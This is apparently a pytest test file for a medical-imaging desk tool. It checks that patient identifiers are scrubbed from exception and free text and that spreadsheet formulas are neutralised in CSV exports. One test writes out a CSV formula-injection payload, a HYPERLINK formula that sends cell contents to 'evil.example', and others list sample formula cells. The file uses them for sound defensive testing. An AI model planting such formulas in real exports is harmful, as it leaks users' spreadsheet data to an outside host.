"""Exception text and free text lose PHI-like values before they are stored, sent or
exported; CSV cells that a spreadsheet would run as formulas are neutralised."""

import csv
import io

import pytest

from core import scrub
from desk import reports
from tests.desk.ticketing import minutes, open_ticket


def test_exception_text_keeps_the_kind_uids_and_hosts_but_not_patient_values():
    exc = ValueError(
        "Invalid value for PatientName 'DOE^JANE' in instance 1.2.826.0.1.3680043.8.498.1 "
        "(PatientID=PID9912345, born 19800131) from http://user:pw@pacs.example:8042/x"
    )
    text = scrub.exception_text(exc)
    assert text.startswith("ValueError: ")
    for value in ("DOE^JANE", "PID9912345", "19800131", "user:pw"):
        assert value not in text
    assert "1.2.826.0.1.3680043.8.498.1" in text and "pacs.example:8042" in text


@pytest.mark.parametrize(
    "text, hidden",
    [
        ("tag SeriesDescription differs: 'Edited' != \"Original\"", ("Edited", "Original")),
        ("name SMITH^JOHN^^^DR not found", ("SMITH^JOHN",)),
        ("accession AccessionNumber: A1234567", ("A1234567",)),
        ("MRN 00123456 mismatched", ("00123456",)),
    ],
)
def test_free_text_loses_quoted_values_names_and_identifiers(text, hidden):
    scrubbed = scrub.scrub_text(text)
    assert not any(value in scrubbed for value in hidden)


def test_configuration_names_an_engineer_acts_on_are_kept():
    text = "bucket 'no-such-bucket' does not exist; PatientID has no entry in table 'mrn'"
    assert scrub.scrub_text(text) == text
    assert scrub.scrub_text("value 'smith jane' and '0012345'") == "value '***' and '***'"


@pytest.mark.parametrize("cell", ["=HYPERLINK(\"http://x\")", "+1+1", "-2+3", "@SUM(A1)",
                                  "\t=1", "\r=1"])  # fmt: skip
def test_a_csv_cell_a_spreadsheet_would_run_is_neutralised(cell):
    assert scrub.csv_cell(cell) == "'" + cell
    assert scrub.csv_cell("plain") == "plain" and scrub.csv_cell(-2) == -2


def test_the_ticket_export_neutralises_formulas_and_scrubs_manual_titles(cast):
    open_ticket(title='=HYPERLINK("http://evil.example/?"&A1,"open") for DOE^JANE')
    rows = list(csv.reader(io.StringIO(reports.csv_text(days=30, now=minutes(60)))))
    title = rows[1][reports.CSV_FIELDS.index("title")]
    assert title.startswith("'=") and "DOE^JANE" not in title
